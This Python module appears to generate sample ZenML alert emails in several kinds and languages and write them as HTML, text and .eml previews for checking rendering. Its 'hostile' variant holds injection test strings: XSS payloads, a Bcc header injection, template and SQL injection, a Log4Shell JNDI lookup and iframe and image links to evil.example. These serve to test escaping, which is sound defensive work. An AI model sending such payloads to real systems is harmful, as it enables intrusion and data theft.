"""Samples of every kind of mail, and previews of any alert as files.

``python -m zenmail.composing.gallery FOLDER`` writes each sample as HTML, as text and as a
whole mail.
"""

from __future__ import annotations

import base64
import struct
import sys
import zlib
from collections.abc import Iterator
from datetime import datetime, timezone
from pathlib import Path
from typing import Final, NamedTuple

from ..alert import Alert, Image, StepSummary
from ..email import Email
from .compose import compose, list_id_for
from .render import users_loader

__all__ = ["KINDS", "VARIANTS", "Preview", "preview", "sample", "samples"]

KINDS: Final = (
    "success",
    "failure",
    "information",
    "warning",
    "run-summary",
    "report",
    "digest",
)
VARIANTS: Final = ("plain", "long-traceback", "japanese", "hebrew", "emoji", "hostile")

_MOMENT: Final = datetime(2026, 11, 24, 23, 41, tzinfo=timezone.utc)
_SENDER: Final = "ZenML alerts <alerts@example.com>"
_RECIPIENT: Final = "oncall@example.com"


class Preview(NamedTuple):
    """Where a preview was written.

    Attributes:
        html: The HTML part with its pictures, to open in a browser; None without HTML.
        text: The text part.
        eml: The whole mail.
    """

    html: Path | None
    text: Path
    eml: Path


def preview(
    alert: Alert,
    folder: str | Path,
    *,
    name: str = "alert",
    templates: str | Path | None = None,
    sender: str = _SENDER,
    to: str = _RECIPIENT,
    subject_prefix: str = "[ZenML]",
) -> Preview:
    """Write what an alert looks like, without sending it.

    Args:
        alert: What happened.
        folder: Where to write; made when it does not exist.
        name: What the files are called, without ending.
        templates: Templates of the user's own, as for `compose`.
        sender: Who the mail is from.
        to: Who gets it.
        subject_prefix: What stands before the subject.

    Raises:
        OSError: The folder cannot be written to.
        TemplateError: There are no templates where they are said to be.
    """
    if templates is not None:
        # `compose` would do without: an alert matters more than its looks.
        users_loader(str(templates))
    email = compose(
        alert, sender=sender, to=to, subject_prefix=subject_prefix, templates=templates
    )
    home = Path(folder)
    home.mkdir(parents=True, exist_ok=True)
    files = Preview(
        home / f"{name}.html" if email.html is not None else None,
        home / f"{name}.txt",
        home / f"{name}.eml",
    )
    if files.html is not None:
        files.html.write_text(_standalone(email), encoding="utf-8")
    files.text.write_text(email.text, encoding="utf-8")
    files.eml.write_bytes(email.as_bytes())
    return files


def _standalone(email: Email) -> str:
    """Return the HTML part with its pictures inside, for a browser knows no ``cid:``."""
    html = email.html or ""
    for item in email.attachments:
        if item.content_id:
            data = base64.b64encode(item.read()).decode("ascii")
            html = html.replace(
                f'"cid:{item.content_id}"', f'"data:{item.content_type};base64,{data}"'
            )
    return html


def samples() -> Iterator[tuple[str, Alert]]:
    """Yield a name and an alert for each kind of mail in each variant."""
    for kind in KINDS:
        for variant in VARIANTS:
            yield f"{kind}-{variant}", sample(kind, variant)


class _Words(NamedTuple):
    pipeline: str
    step: str
    happened: str
    body: str
    error: str
    advice: str


_FRAME: Final = (
    '  File "/app/steps/{step}.py", line {line}, in {step}\n    model = fit(features, labels)\n'
)
_ENGLISH: Final = _Words(
    "churn_training",
    "train_model",
    "train_model failed",
    "The step stopped after **3 tries** in `my_feature_store`.\nThe run goes on without it.",
    "ValueError: Input contains NaN, infinity or a value too large for dtype('float32')",
    "Look for empty values in the feature table, then run the pipeline again.",
)
_WORDS: Final = {
    "plain": _ENGLISH,
    "long-traceback": _ENGLISH,
    "japanese": _Words(
        "解約予測",
        "学習",
        "学習ステップが失敗しました",
        "三回再試行しましたが、**学習ステップ**は完了しませんでした。\n入力データを確認してください。",
        "ValueError: 入力に欠損値が含まれています",
        "特徴量テーブルの欠損値を確認し、パイプラインを再実行してください。",
    ),
    "hebrew": _Words(
        "חיזוי נטישה",
        "אימון",
        "שלב האימון נכשל",
        "השלב נעצר אחרי **שלושה ניסיונות** ולא הושלם.\nיש לבדוק את נתוני הקלט.",  # noqa: RUF001
        "ValueError: הקלט מכיל ערכים חסרים",
        "בדקו את הערכים החסרים בטבלת המאפיינים והריצו שוב.",
    ),
    "emoji": _Words(
        "churn 🚀 training",
        "train 🏋️ model",
        "train 🏋️ model failed 💥",
        "Three tries 🔁, no luck 😕.\nFamily: 👨‍👩‍👧‍👦, flag: 🇺🇦, tone: 👍🏽",
        "ValueError: 🧪 contains NaN 🤷",
        "Look at the data 🔎, then run it again ▶️.",
    ),
    "hostile": _Words(
        '"><script>alert(1)</script>',
        "<img src=x onerror=alert(1)>",
        "</title><script>alert(document.domain)</script> =?UTF-8?Q?=0ABcc:_x@y.example?=",
        "</main></td></tr></table><iframe src=//evil.example></iframe>\n"
        "[click](javascript:alert(1)) ![track](https://evil.example/p.png) {{ 7 * 7 }} "
        "{% raise %} \x1b[31mred\x1b[0m \u202egnp.exe " + "W" * 300,
        "<svg onload=alert(1)>: ' OR 1=1 -- &lt;&#x3c; ]]> ${jndi:ldap://evil.example/a}",
        "<a href='javascript:alert(1)'>next</a> " + "https://" + "a" * 200 + ".example/",
    ),
}


def sample(kind: str, variant: str) -> Alert:
    """Return a sample alert.

    Args:
        kind: One of `KINDS`.
        variant: One of `VARIANTS`.
    """
    words = _WORDS[variant]
    facts = {
        "Pipeline": words.pipeline,
        "Step": words.step,
        "Run": "churn_training-2026_11_24-23_38_02",
        "Stack": "production",
        "Duration": "2 min 58 s",
    }
    alert = Alert(
        occurred_at=_MOMENT,
        facts=facts,
        url="https://zenml.example.com/runs/4f1c2d7e",
        thread="4f1c2d7e",
        list_id=list_id_for(words.pipeline),
        traceback=_traceback(words, 400) if variant == "long-traceback" else "",
    )
    english = variant in ("plain", "long-traceback")
    if kind == "success":
        return alert.replace(
            title=f"{words.pipeline} completed" if english else words.happened,
            severity="success",
            body="All 6 steps completed. The model is registered as version **14**."
            if english
            else words.body,
            facts={**facts, "Model": "churn, version 14"},
        )
    if kind == "failure":
        return alert.replace(
            title=words.happened,
            severity="error",
            body=words.body,
            error=words.error,
            next_steps=(words.advice,),
            traceback=alert.traceback or _traceback(words, 2),
            facts={
                **facts,
                "Parameters": {
                    "learning_rate": 0.003,
                    "epochs": 40,
                    "database": {"host": "db", "password": "hunter2"},
                },
            },
        )
    if kind == "information":
        return alert.replace(title=words.pipeline, body=_article(words), facts={})
    if kind == "warning":
        return alert.replace(
            title="Data drift in 3 of 41 features" if english else words.happened,
            severity="warning",
            body=words.body,
            next_steps=(words.advice,),
            tables={
                "Drift by feature": [
                    {"feature": words.step, "score": 0.4312, "limit": 0.2},
                    {"feature": "tenure_months", "score": 0.2871, "limit": 0.2},
                    {"feature": "last_login", "score": 0.2055, "limit": 0.2},
                ]
            },
        )
    if kind == "run-summary":
        return alert.replace(
            title=f"{words.pipeline}: 1 of 6 steps failed" if english else words.happened,
            severity="error",
            steps=_steps(words),
            next_steps=(words.advice,),
        )
    if kind == "report":
        return alert.replace(
            title=f"{words.pipeline}: better than the last run" if english else words.happened,
            severity="success",
            body="Accuracy rose by 1.3 % over the last run, with **24,329** more rows."
            if english
            else words.body,
            metrics={
                "accuracy": 0.9312,
                "f1": 0.8876,
                "loss": 0.2114,
                "rows": 1_204_331,
                words.step: 0.5,
            },
            baseline={"accuracy": 0.9188, "f1": 0.8876, "loss": 0.2391, "rows": 1_180_002},
            images=(
                Image(
                    source=_chart(),
                    alt="Loss by epoch: it falls from 0.9 to 0.2",
                    caption="Loss by epoch" if english else words.step,
                ),
            ),
            tables={
                "Confusion matrix": [
                    ["", "stays", "leaves"],
                    ["stays", 18_204, 411],
                    ["leaves", 902, 3_387],
                ]
            },
            links={"Model card": "https://zenml.example.com/models/churn/14"},
        )
    return alert.replace(
        title=f"12 alerts in 10 minutes: {words.pipeline}",
        severity="warning",
        body="Nine alerts of one kind were held back; the first of each was sent."
        if english
        else words.body,
        tables={
            "What happened": [
                {"alert": words.happened, "times": 9, "last": "23:41"},
                {"alert": "evaluate failed", "times": 3, "last": "23:39"},
            ]
        },
    )


def _article(words: _Words) -> str:
    return (
        f"# {words.happened}\n\n{words.body}\n\n- {words.advice}\n- `__init__` and *args stay\n"
        "  1. nested\n\n> quoted\n\n| column | value |\n|---|---:|\n| a | 1 |\n\n"
        "```python\nprint(1)\n```\n\nMore at https://docs.example.com/a_b_c."
    )


def _traceback(words: _Words, frames: int) -> str:
    middle = "".join(
        _FRAME.format(step=words.step, line=40 + number) for number in range(frames)
    )
    return (
        f"Traceback (most recent call last):\n{middle}"
        '  File "/app/.venv/lib/site-packages/sklearn/utils/validation.py", line 165, in '
        "_assert_all_finite_element_wise\n    raise ValueError(msg_err)\n"
        f"{words.error}"
    )


def _steps(words: _Words) -> tuple[StepSummary, ...]:
    url = "https://zenml.example.com/steps/"
    return (
        StepSummary(name="load_data", status="cached", started=0, seconds=0.1, url=url + "1"),
        StepSummary(name="split", status="completed", started=1, seconds=12, url=url + "2"),
        StepSummary(
            name=words.step,
            status="failed",
            started=13,
            seconds=154,
            reason=words.error,
            url=url + "3",
        ),
        StepSummary(name="train_baseline", status="completed", started=13, seconds=48.2),
        StepSummary(name="evaluate", status="skipped"),
        StepSummary(name="deploy", status="skipped"),
    )


def _chart() -> bytes:
    """Return a small PNG of a falling curve."""
    width, height, margin = 592, 220, 18
    rows = [bytearray(b"\xff" * width) for _ in range(height)]
    for at in range(margin, width - margin):
        rows[height - margin][at] = 0x90
        share = (at - margin) / (width - 2 * margin)
        value = 0.2 + 0.7 / (1 + 9 * share)
        top = round(height - margin - value * (height - 2 * margin))
        for offset in range(-2, 3):
            rows[top + offset][at] = 0x20
    for at in range(margin, height - margin):
        rows[at][margin] = 0x90
    raw = b"".join(b"\x00" + bytes(row) for row in rows)

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def main(arguments: list[str]) -> int:
    """Write the gallery into the folder named on the command line."""
    if len(arguments) != 1:
        print("usage: python -m zenmail.composing.gallery FOLDER", file=sys.stderr)
        return 2
    for name, alert in samples():
        preview(alert, arguments[0], name=name)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
